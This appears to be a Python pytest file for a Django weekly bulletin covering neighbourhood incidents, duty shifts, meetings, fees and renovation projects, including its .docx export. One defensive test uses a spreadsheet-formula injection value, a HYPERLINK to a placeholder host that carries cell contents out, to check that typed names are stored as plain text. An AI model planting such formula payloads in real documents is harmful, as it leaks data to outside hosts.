"""The weekly bulletin: figures against a hand-counted week, totals equal to the sum of the
communities, published once and kept, made by beat, read by officers and workers, and its .docx."""

from datetime import datetime, time, timedelta
from decimal import Decimal
from io import BytesIO

import pytest
from django.utils import timezone
from docx import Document

from core.periods import add_months, last_full_month, last_full_week, week_label
from governance import services as governance
from governance.models import Member
from grid.models import DutyShift, Incident
from property.models import Payment
from reports import bulletin, services
from reports.models import Bulletin, Fill, Snapshot
from reports.tasks import bulletins_publish_weekly
from tests.factories import CommunityFactory

pytestmark = pytest.mark.django_db
URL = "/api/v1/governance/bulletins"


def monday():
    return last_full_week(timezone.localdate())


def at(day_offset, hour, base=None):
    """The week's Monday + day_offset days, at the hour (local time)."""
    day = (base or monday()) + timedelta(days=day_offset)
    return timezone.make_aware(datetime.combine(day, time(hour)))


@pytest.fixture
def week(estate, grids, category, owner, committee, committee_member, collector):
    """A hand-counted week in community A (grid A, compound A)."""

    def incident(reported, deadline, status, closed=None):
        return Incident.objects.create(
            grid=grids.a,
            category=category,
            place="北门",
            description="x",
            reporter=owner,
            reported_at=reported,
            status=status,
            unit=grids.cleaning,
            deadline=deadline,
            closed_at=closed,
        )

    incident(at(0, 9), at(1, 9), "closed", at(0, 15))  # opened, closed in 6 h, due, on time
    incident(at(-3, 12), at(2, 12), "closed", at(3, 12))  # closed late after 144 h, due
    incident(at(1, 9), at(3, 9), "rectifying")  # opened, due, overdue at the end
    incident(at(2, 9), at(3, 9), "rejected")  # opened; rejected: not due
    incident(at(-10, 9), at(-8, 9), "closed", at(-9, 9))  # the week before: none of these
    shift = grids.cleaner_a
    for day, status, late in (
        (0, "done", False),
        (1, "missed", False),
        (2, "done", True),
        (3, "cancelled", False),
    ):
        DutyShift.objects.create(
            assignment=shift,
            staff=shift.user,
            grid=grids.a,
            role="cleaner",
            starts_at=at(day, 7),
            ends_at=at(day, 9),
            status=status,
            late=late,
        )
    members = list(Member.objects.filter(body=committee))
    governance.meeting_record(
        actor=committee_member,
        body=committee,
        title="例会",
        held_at=at(2, 19),
        place="议事厅",
        attendance=[{"member": m.pk, "presence": "present", "proxy_name": ""} for m in members],
    )
    Payment.objects.create(
        household=estate.household_a,
        compound=estate.compound_a,
        receipt_seq=1,
        amount=Decimal("50.00"),
        method="cash",
        received_by=collector,
        received_at=at(4, 10),
    )
    return estate


def test_the_weeks_figures_against_hand_counts(week, officer):
    data = bulletin.bulletin_data(week.subdistrict, monday())
    a = next(c for c in data["communities"] if c["id"] == week.community_a.pk)
    assert a["incidents"] == {
        "opened": 3,
        "closed": 2,
        "due": 3,
        "closed_on_time": 1,
        "overdue": 1,
        "on_time_rate": "0.3333",
        "median_hours_to_close": "75.0",  # (6 + 144) / 2
    }
    assert a["duty"] == {"planned": 3, "done": 2, "left_early": 0, "late": 1, "missed": 1}
    assert a["meetings"] == 1
    assert a["fees"]["collected"] == "50.00"
    assert a["overdue_units"] == 1
    # the week before: one opened (reported on its Friday), none closed
    assert a["against_last_week"]["incidents_opened"] == 3 - 1
    assert a["against_last_week"]["incidents_closed"] == 2 - 0
    assert data["week"] == week_label(monday())


def test_the_totals_are_the_sum_of_the_communities(week):
    CommunityFactory(subdistrict=week.subdistrict, name="第三社区")
    data = bulletin.bulletin_data(week.subdistrict, monday())
    rows, totals = data["communities"], data["totals"]
    assert len(rows) == 3
    for key in ("inspections", "findings", "meetings", "votes_closed"):
        assert totals[key] == sum(r[key] for r in rows), key
    assert totals["overdue_units"] == len(data["overdue_units"])  # each unit once (issue 22)
    for key in ("opened", "closed", "due", "closed_on_time", "overdue"):
        assert totals["incidents"][key] == sum(r["incidents"][key] for r in rows), key
    for key in ("planned", "done", "left_early", "late", "missed"):
        assert totals["duty"][key] == sum(r["duty"][key] for r in rows), key
    assert Decimal(totals["fees"]["collected"]) == sum(Decimal(r["fees"]["collected"]) for r in rows)
    assert Decimal(totals["volunteer_hours"]) == sum(Decimal(r["volunteer_hours"]) for r in rows)
    assert sorted(r["rank"] for r in rows) == [1, 2, 3]


def test_a_published_bulletin_is_kept_as_it_was(week):
    kept = services.bulletin_publish(subdistrict=week.subdistrict, week=monday())
    assert kept.data["published_at"] is not None
    Incident.objects.filter(status="rectifying").update(status="closed", closed_at=at(3, 10))  # entered late
    again = services.bulletin_publish(subdistrict=week.subdistrict, week=monday())
    kept.refresh_from_db()
    assert again.pk == kept.pk and again.data == kept.data
    assert bulletin.bulletin_for(week.subdistrict, monday())["communities"] == kept.data["communities"]
    assert Bulletin.objects.count() == 1


def test_beat_publishes_each_subdistrict_once_for_the_last_full_week(week):
    assert bulletins_publish_weekly() == [f"{week.subdistrict.pk} {week_label(monday())}"]
    bulletins_publish_weekly()
    assert Bulletin.objects.filter(week=monday()).count() == 1


def test_officers_and_workers_read_it_and_others_do_not(api, week, officer, worker, cleaner):
    answer = api(officer).get(URL)
    assert answer.status_code == 200 and answer.json()["from"] == str(monday())
    assert api(worker).get(URL).status_code == 200
    assert api(cleaner).get(URL).status_code == 403
    assert api(Member.objects.get(role="director").resident.user).get(URL).status_code == 403
    future = week_label(monday() + timedelta(days=14))
    refused = api(officer).get(URL, {"week": future})
    assert refused.status_code == 422 and "week" in refused.json()["fields"]
    assert api(officer).get(URL, {"week": "2026-W60"}).status_code == 422


def test_the_page_prints_and_the_docx_holds_the_same_table(client, week, officer):
    client.force_login(officer)
    page = client.get("/reports/bulletin/")
    assert page.status_code == 200 and week.community_a.name in page.content.decode()
    download = client.get("/reports/bulletin.docx")
    assert download["Content-Type"].startswith("application/vnd.openxmlformats")
    document = Document(BytesIO(download.content))
    table = document.tables[0]
    names = [row.cells[0].text for row in table.rows[1:]]
    assert week.community_a.name in names and week.community_b.name in names
    a_row = next(row for row in table.rows if row.cells[0].text == week.community_a.name)
    assert a_row.cells[4].text == "33.3%"  # on-time closure


def test_the_bulletin_costs_the_same_queries_for_2_or_12_communities(week, django_assert_num_queries):
    month = last_full_month(monday() + timedelta(days=7))
    for extra in (0, 10):
        for i in range(extra):
            CommunityFactory(subdistrict=week.subdistrict, name=f"社区{i}")
        Snapshot.objects.all().delete()
        Fill.objects.all().delete()
        for period in (add_months(month, -1), month):
            services.snapshots_fill(period=period)
        # communities 1; this week and the week before 9 each (incidents, hours to close, duty,
        # inspections, findings, volunteer hours, meetings, votes, payments); the month's collection
        # 3 (compounds, billed, paid), once when both weeks are in it; the communities' two months 1;
        # the compounds 1 and their names 1; their two months 1; the overdue list 1; renovation's
        # projects 1 and its blacklist 1 (no project here: nothing prefetched or counted)
        with django_assert_num_queries(29 if (monday() - timedelta(days=7)).month == monday().month else 32):
            bulletin.bulletin(week.subdistrict, monday())


def test_the_bulletin_reports_each_projects_progress_and_delays_and_the_blacklist(world, api):
    """A project in construction in community A: a stage reached, two progress updates and a defect in
    the week; its construction contract past its end with items unfinished; the unit on the blacklist."""
    from grid.models import Category
    from renovation import defaults
    from renovation import services as renovation
    from renovation.models import BlacklistEntry, Contract, ProgressEntry, StageDate

    defaults.ensure_categories(Category)
    project = world.project("construction")
    StageDate.objects.filter(project=project, stage="construction").update(
        reached_on=monday() + timedelta(days=1)
    )
    item = project.items.first()
    for day, percent in ((1, 20), (3, 40)):
        ProgressEntry.objects.create(item=item, percent=percent, by=world.users["worker"], at=at(day, 10))
    ProgressEntry.objects.create(item=item, percent=10, by=world.users["worker"], at=at(-3, 10))  # before
    item.percent = 40
    item.save(update_fields=["percent"])
    contract = project.contracts.get(role="construction")
    Contract.objects.filter(pk=contract.pk).update(
        starts_on=monday() - timedelta(days=100), ends_on=monday() - timedelta(days=20)
    )
    inspection = renovation.site_inspection_record(
        actor=world.users["worker"],
        project=project,
        compound=world.estate.compound_a.pk,
        findings=[{"contract": contract.pk, "category": "works_quality", "text": "裂缝"}],
    )
    Incident.objects.filter(site_finding__inspection=inspection).update(reported_at=at(2, 9))
    BlacklistEntry.objects.create(
        unit=contract.unit,
        came_on=monday() + timedelta(days=2),
        counted_on=monday(),
        milestones=1,
        days_late=22,
    )
    BlacklistEntry.objects.create(  # came off before the week: not in it
        unit=contract.unit,
        came_on=monday() - timedelta(days=60),
        came_off=monday() - timedelta(days=30),
        counted_on=monday(),
    )
    data = bulletin.bulletin_data(world.estate.subdistrict, monday())["renovation"]
    (row,) = data["projects"]
    assert (row["id"], row["stage"], row["reached"], row["progress_updates"]) == (
        project.pk,
        "construction",
        ["施工"],
        2,
    )
    assert (row["defects_found"], row["defects_open"], row["percent_done"]) == (1, 1, 20)
    assert row["milestones_overdue"] >= 1 and row["late_units"] == [contract.unit.name]
    assert data["behind"] == 1
    assert [(e["unit"], e["came_on"], e["came_off"]) for e in data["blacklist"]] == [
        (contract.unit.name, str(monday() + timedelta(days=2)), None)
    ]
    page = api(world.users["officer"]).get(
        f"{URL}?subdistrict={world.estate.subdistrict.pk}&week={week_label(monday())}"
    )
    assert page.status_code == 200 and page.json()["renovation"]["projects"][0]["defects_open"] == 1
    text = "\n".join(p.text for p in Document(BytesIO(bulletin_docx_of(world, monday()))).paragraphs)
    assert contract.unit.name in text


def test_the_bulletin_lists_a_project_handed_over_in_the_week_and_not_one_handed_over_before(world):
    from renovation.models import Project, StageDate

    handed = {}
    for name, day in (
        ("本周移交", monday() + timedelta(days=2)),
        ("早已移交", monday() - timedelta(days=40)),
    ):
        project = world.project("planned")
        Project.objects.filter(pk=project.pk).update(name=name, stage="handed_over")
        StageDate.objects.filter(project=project, stage="handed_over").update(reached_on=day)
        handed[name] = project.pk
    rows = bulletin.bulletin_data(world.estate.subdistrict, monday())["renovation"]["projects"]
    assert [(r["id"], r["stage"]) for r in rows] == [(handed["本周移交"], "handed_over")]


def bulletin_docx_of(world, week):
    from reports.docx import bulletin_docx

    return bulletin_docx(bulletin.bulletin_data(world.estate.subdistrict, week))


def test_the_docx_holds_what_a_person_typed_as_text_without_fields(week):
    """Names a person typed (a community's, a responsible unit's) are text in the .docx: no field
    codes, no hyperlinks, as typed (issue 22, part 2)."""
    from property.models import Community
    from reports.docx import bulletin_docx

    typed = '=HYPERLINK("http://x.example?c="&C2,"详情")'
    Community.objects.filter(pk=week.community_a.pk).update(name="=1+1")
    data = bulletin.bulletin_data(week.subdistrict, monday())
    data["overdue_units"] = [{"name": typed, "overdue": 3}]  # a responsible unit's name, as typed
    document = Document(BytesIO(bulletin_docx(data)))
    assert "=1+1" in [row.cells[0].text for row in document.tables[0].rows]
    assert [p.text for p in document.paragraphs if p.text.startswith("=")][0].startswith(typed)
    xml = document.element.xml
    assert [tag for tag in ("w:fldSimple", "w:instrText", "w:fldChar", "w:hyperlink") if tag in xml] == []
